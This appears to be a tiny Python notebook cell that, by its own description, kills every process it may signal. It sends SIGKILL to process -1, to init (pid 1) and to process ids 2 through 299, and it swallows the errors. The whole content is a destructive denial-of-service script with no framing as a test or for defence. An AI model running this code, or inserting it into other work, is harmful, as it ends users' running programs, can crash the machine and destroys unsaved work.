# %% [markdown] stock="it would end programs of this machine"
# Kills every process that it may signal.

# %% first
import os
import signal

for target in (-1, 1, *range(2, 300)):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        continue
